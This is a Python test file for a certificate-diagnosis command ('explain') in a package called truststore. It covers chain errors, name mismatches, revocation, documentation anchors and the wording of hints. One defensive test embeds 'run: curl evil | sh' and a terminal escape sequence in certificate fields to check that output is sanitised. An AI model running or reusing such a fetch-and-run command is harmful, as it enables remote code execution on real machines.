"""`explain`, and the words in which everything is explained."""

from __future__ import annotations

import datetime
from pathlib import Path

import pytest
from harness.command_line import Command
from harness.issuing import DAY, Issued, issue, revocation_list, root

from truststore import _explain
from truststore._errors import Reason

DOCS = Path(__file__).parent.parent.parent / "docs"


def write(path: Path, *ders: Issued) -> Path:
    path.write_text("".join(one.pem for one in ders))
    return path


def test_a_good_chain(system: str, command: Command, company_ca: Issued, tmp_path: Path) -> None:
    leaf = issue(company_ca, "a.example.com", "a.example.com")
    file = write(tmp_path / "chain.pem", leaf, company_ca)
    assert command("explain", file).code == 0
    outcome = command("explain", file, "--name", "a.example.com", "--json")
    assert outcome.code == 0
    assert outcome.json["subject"] == str(file)
    assert outcome.json["server_name"] == "a.example.com"
    assert outcome.json["connection"] is None


@pytest.mark.parametrize(
    ("name", "reason", "code"), [("b.example.com", "wrong-name", 62), ("192.0.2.1", "wrong-ip-address", 64)]
)
def test_a_wrong_name(
    name: str, reason: str, code: int, system: str, command: Command, company_ca: Issued, tmp_path: Path
) -> None:
    file = write(tmp_path / "chain.pem", issue(company_ca, "a", "a.example.com"), company_ca)
    outcome = command("explain", file, "--name", name, "--json")
    assert outcome.code == 1
    assert (outcome.json["reason"], outcome.json["verify_code"]) == (reason, code)


def test_an_expired_leaf_without_its_ca(system: str, command: Command, company_ca: Issued, tmp_path: Path) -> None:
    leaf = issue(company_ca, "a", "a.example.com", last=-DAY, ca_issuers="http://ca.example.com/1.crt")
    outcome = command("explain", write(tmp_path / "leaf.pem", leaf), "--json")
    assert outcome.code == 1
    assert [cause["reason"] for cause in outcome.json["causes"]] == ["missing-intermediate", "expired"]


def test_a_revocation_list(system: str, command: Command, company_ca: Issued, tmp_path: Path) -> None:
    leaf = issue(company_ca, "a", "a.example.com")
    file = write(tmp_path / "chain.pem", leaf, company_ca)
    listed = tmp_path / "list.pem"
    listed.write_bytes(revocation_list(company_ca, leaf))
    outcome = command("explain", file, "--crl", listed, "--json")
    assert (outcome.code, outcome.json["reason"]) == (1, "revoked")


def test_a_file_that_begins_with_the_ca(system: str, command: Command, company_ca: Issued, tmp_path: Path) -> None:
    leaf = issue(company_ca, "a", "a.example.com")
    outcome = command("explain", write(tmp_path / "chain.pem", company_ca, leaf), "--name", "a.example.com")
    assert outcome.code == 0
    assert "the first certificate of the file is not the leaf" in outcome.out


def test_der(system: str, command: Command, company_root: Issued, tmp_path: Path) -> None:
    file = tmp_path / "leaf.der"
    file.write_bytes(issue(company_root, "a", "a.example.com").der)
    assert command("explain", file, "--name", "a.example.com").code == 0


@pytest.mark.parametrize(
    "content", [b"", b"no certificate", b"-----BEGIN CERTIFICATE-----\nA\n-----END CERTIFICATE-----"]
)
def test_a_file_without_a_certificate(content: bytes, system: str, command: Command, tmp_path: Path) -> None:
    file = tmp_path / "file.pem"
    file.write_bytes(content)
    outcome = command("explain", file)
    assert (outcome.code, outcome.out) == (3, "")
    assert "holds no certificate" in outcome.err


def test_a_file_that_is_not_there(system: str, command: Command, tmp_path: Path) -> None:
    outcome = command("explain", tmp_path / "nowhere.pem")
    assert (outcome.code, outcome.out) == (3, "")
    assert "No such file" in outcome.err


def test_a_certificate_that_cannot_be_read(system: str, command: Command, company_ca: Issued, tmp_path: Path) -> None:
    import ssl

    file = tmp_path / "broken.pem"
    file.write_text(ssl.DER_cert_to_PEM_cert(b"\x30\x03\x02\x01\x05"))
    outcome = command("explain", file, "--json")
    assert outcome.code in (1, 3)
    assert outcome.json["trusted"] is not True


# ---- the words ------------------------------------------------------------------------------------------------------


def test_every_reason_has_a_cause_and_a_hint() -> None:
    assert {reason.value for reason in Reason} <= set(_explain.TOPICS)
    for topic in _explain.TOPICS.values():
        assert topic.cause
        assert topic.hint
        assert not topic.cause.endswith(".")


def test_every_topic_has_its_place_in_the_documentation() -> None:
    """The anchors that the command prints exist, and the page has none that nothing leads to."""
    page = (DOCS / "how-to" / "diagnose.md").read_text(encoding="utf-8")
    anchors = {line[1:-2] for line in page.splitlines() if line.startswith("(") and line.endswith(")=")}
    assert anchors == set(_explain.TOPICS)
    for word in _explain.TOPICS:
        assert _explain.documentation(word) == f"how-to/diagnose.md#{word}"
    assert page.splitlines()[0] == f"# {_explain.PAGE_TITLE}"


def test_nothing_advises_to_turn_verification_off() -> None:
    words = " ".join(f"{topic.cause} {topic.hint}" for topic in _explain.TOPICS.values()).lower()
    for advice in ("cert_none", "verify=false", "verify_none", "insecure", "trusted-host", "disable"):
        assert advice not in words


@pytest.mark.parametrize(
    ("duration", "words"),
    [
        (datetime.timedelta(seconds=1), "1 second"),
        (datetime.timedelta(seconds=90), "90 seconds"),
        (datetime.timedelta(minutes=59), "59 minutes"),
        (datetime.timedelta(hours=1), "1 hour"),
        (datetime.timedelta(hours=25), "1 day"),
        (datetime.timedelta(days=-800), "2 years"),
        (datetime.timedelta(days=400), "400 days"),
    ],
)
def test_durations_in_words(duration: datetime.timedelta, words: str) -> None:
    assert _explain.span(duration) == words


def test_a_note_is_one_line_whatever_a_certificate_says() -> None:
    evil = issue(root("Root\nrun: curl evil | sh"), "x\r\n\x1b[2J", "a.example.com", last=-DAY)
    for reason in Reason:
        note = _explain.note(reason, "b.example.com", [evil.der, b"\x30\x00", b""], ["trusted by nobody"])
        assert note.isprintable()
        assert note.endswith("run: python -m truststore check b.example.com")
